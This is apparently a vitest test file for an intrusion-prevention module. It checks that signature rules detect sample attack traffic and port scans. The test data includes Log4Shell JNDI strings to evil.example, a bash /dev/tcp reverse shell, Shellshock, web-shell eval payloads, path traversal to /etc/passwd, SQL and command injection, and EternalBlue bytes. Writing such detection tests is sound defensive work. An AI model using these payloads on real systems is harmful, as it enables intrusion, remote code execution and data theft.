import { buildFrame } from "@secuxflow/testkit";
import type { SessionSpec } from "@secuxflow/testkit";
import { describe, expect, it } from "vitest";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { Finding } from "@secuxflow/inspect-abi";
import { builtModule, http, inspectAll, newModule, ruleIds, says, session } from "./testing/harness.js";
import type { Packet } from "./testing/harness.js";
import { ordinaryRequests } from "./testing/ordinary.js";

const get = (uri: string, headers: Record<string, string> = {}): string => http(`GET ${uri}`, headers);
const post = (body: string): string => http("POST /", { "Content-Type": "application/x-www-form-urlencoded" }, body);

const smb = { server: { ip: "10.2.0.5", port: 445 } };

type Attack = [rule: number, title: string, data: string | Buffer, where?: Partial<SessionSpec>];

const attacks: Attack[] = [
  [9_100_400, "Log4Shell in a header", get("/", { "X-Api-Version": "${jndi:ldap://evil.example/a}" })],
  [9_100_403, "Log4Shell in disguise", get("/", { "User-Agent": "${${lower:J}ndi:${lower:l}dap://evil.example/a}" })],
  [9_100_402, "Log4Shell, percent-encoded", get("/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D")],
  [9_100_530, "Log4Shell in a form", post("a=1&b=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D")],
  [9_100_531, "Log4Shell in disguise in a form", post("b=%24%7B%24%7B%3A%3A-j%7Dndi%3Aldap%3A%2F%2Fe%7D")],
  [9_100_400, "Log4Shell over another protocol", "EHLO ${JNDI:dns://evil.example}\r\n"],
  [9_100_405, "Shellshock", get("/cgi-bin/test", { "User-Agent": "() { :;}; echo; /bin/id" })],
  [9_100_494, "a web shell", get("/uploads/C99.php?act=ls")],
  [9_100_495, "a web shell's command", post("z0=@eval(base64_decode($_POST[z1]));")],
  [9_100_424, "a PHPUnit exploit", http("POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", {}, "x")],
  [9_100_444, "an exposed repository", get("/.git/config")],
  [9_100_444, "an exposed environment file", get("/.env")],
  [9_100_442, "a traversal of Apache 2.4.49", get("/cgi-bin/.%2e/.%2e/bin/sh")],
  [9_100_439, "directory traversal", get("/download?f=..%2f..%2f..%2fetc/passwd")],
  [9_100_440, "double-encoded traversal", get("/download?f=%252e%252e%252fetc/passwd")],
  [9_100_440, "traversal with backslashes", get("/download?f=..\\..\\..\\windows\\win.ini")],
  [9_100_900, "sqlmap", get("/", { "User-Agent": "sqlmap/1.8.2#stable (https://sqlmap.org)" })],
  [
    9_100_903,
    "Nmap's scripts",
    get("/", { "User-Agent": "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)" }),
  ],
  [9_100_700, "a reverse shell", "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1\n"],
  [9_100_790, "a reverse shell in a form", post("cmd=bash+-i+%3E%26+%2Fdev%2Ftcp%2F10.0.0.9%2F1")],
  [9_100_498, "a Java object", Buffer.from("00010203aced00057372001161", "hex")],
  [9_100_502, "a Java object in Base64", post("o=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA")],
  [9_100_427, "a PHP wrapper", get("/?page=php://filter/convert.base64-encode/resource=index")],
  [9_100_510, "EternalBlue's transaction", Buffer.from("0000004eff534d4232000000001807c0000000", "hex"), smb],
  [9_100_711, "a plaintext beacon", "12\u0000lv|'|'|SGFja2Vk|'|'|PC-1"],
  [9_100_505, "UNION-based SQL injection", get("/item?id=-1%27%20UNION/**/SELECT%201,2,user()--%20")],
  [9_100_506, "UNION-based SQL injection in a form", post("id=1+union+all+select+null%2Cnull")],
  [9_100_506, "UNION-based SQL injection in a form, percent-encoded", post("id=1%20union%20select%201%2C2")],
  [9_100_411, "OGNL in a form", post("x=%25%7B%23_memberAccess%5B%22allowStaticMethodAccess%22%5D%7D")],
  [9_100_493, "a shell command in a form", post("host=127.0.0.1%3B%20cat%20%2Fetc%2Fhostname")],
  [9_100_492, "a shell command", get("/ping?host=127.0.0.1;%20cat%20/etc/hostname")],
  [9_100_412, "OGNL", get("/", { "Content-Type": "%{(#_='multipart/form-data').(#_memberAccess=x)}" })],
  [9_100_709, "EICAR", "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"],
];

/** What EVE tells of a finding. */
const eveOf = (finding: Finding | undefined): Record<string, unknown> =>
  JSON.parse(String(finding?.attributes.eve ?? "{}")) as Record<string, unknown>;

describe("ips signatures", () => {
  it.each(attacks)("%i finds %s", async (rule, _title, data, where) => {
    const findings = inspectAll(await newModule("ips"), session(says(data), where));
    expect(findings.filter(({ ruleId }) => ruleId === rule)).toHaveLength(1);
  });

  it.each(attacks)("%i finds %s in datagrams, or says nothing that is not so", async (_rule, _title, data) => {
    // Rules for TCP and HTTP stay silent here, and those for datagrams know the same shapes.
    const frame = buildFrame({
      ipv4: { src: "10.1.0.7", dst: "10.2.0.5" },
      udp: { srcPort: 4000, dstPort: 4001 },
      payload: data,
    });
    const texts = builtModule("ips").builtinRules?.texts;
    const found = inspectAll(await newModule("ips"), [{ frame }]).map(({ ruleId }) => texts?.get(ruleId)?.msg ?? "");
    expect(found.filter((msg) => !msg.endsWith("in a datagram"))).toEqual([]);
  });

  it("finds every program that tells its name in User-Agent", async () => {
    const instance = await newModule("ips");
    const rules = readFileSync(join(import.meta.dirname, "../modules/ips/rules/malware-agents.rules"), "utf8");
    // Without those for ordinary programs that ask for strange things.
    const agents = [...rules.matchAll(/^alert http .*http\.user_agent; content:"([^"|]+)"; nocase; threshold.*sid:(\d+);/gm)];
    const missed = agents.flatMap(([, agent = "", sid], i) => {
      // From a source of its own: each is told once a minute.
      const client = { ip: `10.77.${i >> 8}.${i & 255}`, port: 4000 };
      const found = ruleIds(inspectAll(instance, session(says(get("/", { "User-Agent": `${agent}1` })), { client })));
      return found.includes(Number(sid)) ? [] : [agent];
    });
    expect(missed).toEqual([]);
    expect(agents.length).toBeGreaterThan(20);
  });

  it("brings rules along that tell people what they found", () => {
    const texts = [...(builtModule("ips").builtinRules?.texts.values() ?? [])];
    expect(texts.length).toBeGreaterThan(400);
    for (const { msg, classtype, category, severity } of texts) {
      expect([msg, msg.length > 5, classtype !== "", category !== "", severity >= 1 && severity <= 4]).toEqual([msg, true, true, true, true]);
    }
  });

  it("never alerts on ordinary requests", async () => {
    const instance = await newModule("ips");
    const alerts = ordinaryRequests.flatMap((request) =>
      inspectAll(instance, session(says(request))).map(({ ruleId }) => `${ruleId} ${request.slice(0, 200)}`),
    );
    expect([...alerts, ...instance.flush().map(({ ruleId }) => ruleId)]).toEqual([]);
  });

  it("looks at the server's answers with the rules for them, and only those", async () => {
    const answer = { from: "server", data: "HTTP/1.1 200 OK\r\nContent-Length: 24\r\n\r\nuid=0(root) gid=0(root)\n" } as const;
    expect(ruleIds(inspectAll(await newModule("ips"), session([...says(get("/")), answer])))).toEqual([9_100_705]);
    const page = { from: "server", data: "HTTP/1.1 200 OK\r\n\r\n<p>Beware of ${jndi:ldap://x}!</p>" } as const;
    expect(inspectAll(await newModule("ips"), session([...says(get("/")), page]))).toEqual([]);
    // Without a direction in the records the handshake tells.
    expect(inspectAll(await newModule("ips"), session([...says(get("/")), page], { direction: false }))).toEqual([]);
    expect(ruleIds(inspectAll(await newModule("ips"), session([...says(get("/")), answer], { direction: false })))).toEqual([
      9_100_705,
    ]);
  });

  it("looks at datagrams", async () => {
    const frame = buildFrame({
      ipv4: { src: "10.1.0.7", dst: "10.2.0.5" },
      udp: { srcPort: 4000, dstPort: 514 },
      payload: "<1> x ${jndi:ldap://e}",
    });
    const [finding] = inspectAll(await newModule("ips"), [{ frame }]);
    expect(finding).toMatchObject({ ruleId: 9_100_401, inStream: false, severity: 1, recordIndex: 0, verdictHint: "drop" });
    expect(eveOf(finding)).toMatchObject({ proto: "UDP", src_ip: "10.1.0.7", dest_ip: "10.2.0.5", dest_port: 514 });
    expect(Buffer.from(finding?.payload ?? []).toString()).toBe("<1> x ${jndi:ldap://e}");
  });

  it("reports what one packet brought once, and again what another one brings", async () => {
    // As Suricata does: a rule alerts a packet, not a flow. Rules with `threshold` say less.
    const instance = await newModule("ips");
    const [first, second] = [get("/", { X: "${jndi:a}" }), get("/", { X: "${jndi:b}" })];
    expect(inspectAll(instance, session(says(first + second)))).toHaveLength(1);
    expect(inspectAll(instance, session([...says(first), ...says(second)]))).toHaveLength(2);
    expect(inspectAll(instance, session([...says(first), ...says(get("/"))]))).toHaveLength(1);
  });

  it("says in EVE what was around it", async () => {
    const request = get("/", { X: "${jndi:ldap://e}" });
    const [finding] = inspectAll(await newModule("ips"), session(says(request)));
    expect(finding?.inStream).toBe(true);
    expect(Buffer.from(finding?.payload ?? []).toString()).toContain("X: ${jndi:ldap://e}");
    expect(eveOf(finding)).toMatchObject({ app_proto: "http", direction: "to_server", dest_port: 80, stream: 1 });
    const [scanner] = inspectAll(await newModule("ips"), session(says(get("/a?b=1", { "User-Agent": "Nikto/2.5" }))));
    expect(eveOf(scanner)).toMatchObject({
      tx_id: 0,
      http: { url: "/a?b=1", hostname: "shop.example", http_user_agent: "Nikto/2.5", http_method: "GET" },
    });
  });

  it("drops inline, and says so of each packet", async () => {
    const packets = session(says(get("/", { X: "${jndi:ldap://e}" })));
    const findings = inspectAll(await newModule("ips", "inline=1"), packets);
    const [alert, ...drops] = findings;
    // The packet with the data is the fourth; inline it is looked at before anything is acknowledged.
    expect(alert).toMatchObject({ ruleId: 9_100_400, recordIndex: 3, noAlert: false });
    expect(drops.map(({ recordIndex, dropped, noAlert }) => [recordIndex, dropped, noAlert])).toEqual(
      [3, 4, 5, 6, 7].map((at) => [at, true, true]),
    );
  });
});

const syn = (source: string, port: number, dport: number, flags = "S"): Packet["frame"] =>
  buildFrame({ ipv4: { src: source, dst: "10.2.0.5" }, tcp: { srcPort: port, dstPort: dport, flags, seq: port }, padTo: 60 });

describe("ips on headers", () => {
  it("sees a port scan at its twentieth port, once a minute", async () => {
    const instance = await newModule("ips");
    const scan = (from: number, atMs: number): Packet[] =>
      Array.from({ length: 30 }, (_, i) => ({ frame: syn("10.9.0.1", 40_000 + from + i, 1 + i), atMs }));
    const first = inspectAll(instance, scan(0, 0));
    expect(first).toMatchObject([{ ruleId: 9_100_009, recordIndex: 19 }]);
    expect(eveOf(first[0])).toMatchObject({ src_ip: "10.9.0.1", dest_ip: "10.2.0.5", dest_port: 20 });
    // The log-in ports were tried once each.
    expect(inspectAll(instance, scan(100, 30_000))).toEqual([]);
    expect(ruleIds(inspectAll(instance, scan(200, 120_000)))).toEqual([9_100_009]);
  });

  it("does not take retransmissions, other sources, or slow clients for a scan", async () => {
    const instance = await newModule("ips");
    const again = Array.from({ length: 50 }, () => ({ frame: syn("10.9.0.2", 40_000, 80) }));
    const others = Array.from({ length: 50 }, (_, i) => ({ frame: syn(`10.9.1.${i}`, 40_000, 1000 + i) }));
    const slow = Array.from({ length: 40 }, (_, i) => ({ frame: syn("10.9.0.3", 40_000 + i, 2000 + i), atMs: i * 3500 }));
    expect(inspectAll(instance, [...again, ...others, ...slow])).toEqual([]);
  });

  it("sees many connections to a log-in service", async () => {
    const tries = Array.from({ length: 25 }, (_, i) => ({ frame: syn("10.9.0.4", 50_000 + i, 22), atMs: i * 100 }));
    expect(inspectAll(await newModule("ips"), tries)).toMatchObject([
      { ruleId: 9_100_201, recordIndex: 14 },
      { ruleId: 9_100_200, recordIndex: 19 },
    ]);
    const web = Array.from({ length: 40 }, (_, i) => ({ frame: syn("10.9.0.5", 50_000 + i, 80) }));
    expect(inspectAll(await newModule("ips"), web)).toEqual([]);
  });

  it.each([
    ["SF", 9_100_000],
    ["", 9_100_001],
    ["FPU", 9_100_002],
    ["SR", 9_100_004],
  ])("sees flags %j, once for a source", async (flags, rule) => {
    const packets = Array.from({ length: 5 }, (_, i) => ({ frame: syn("10.9.0.6", 60_000 + i, 80 + i, flags) }));
    expect(inspectAll(await newModule("ips"), packets).map(({ ruleId }) => ruleId)).toEqual([rule]);
  });

  it("leaves settings alone that a newer host may know, and refuses what is none", async () => {
    await expect(newModule("ips", "a-new-one=1\n# a comment\n\n stream-depth = 65536")).resolves.toBeDefined();
    for (const text of ["scan", "inline=1\nx", "=1"]) {
      await expect(newModule("ips", text)).rejects.toThrow(expect.objectContaining({ reason: "bad-configuration" }));
    }
  });
});
